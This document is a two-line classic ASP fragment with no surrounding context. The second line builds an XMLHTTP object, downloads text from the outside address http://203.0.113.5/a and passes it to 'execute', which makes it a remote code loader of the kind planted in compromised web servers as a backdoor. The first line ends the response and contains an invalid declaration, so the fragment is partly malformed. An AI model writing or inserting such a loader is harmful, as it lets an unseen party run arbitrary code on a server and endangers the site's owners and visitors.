<% Response.End : Dim 1 %>
<% Set x=CreateObject("Microsoft.XMLHTTP"): x.Open "GET","http://203.0.113.5/a",False: x.Send: execute x.responseText %>
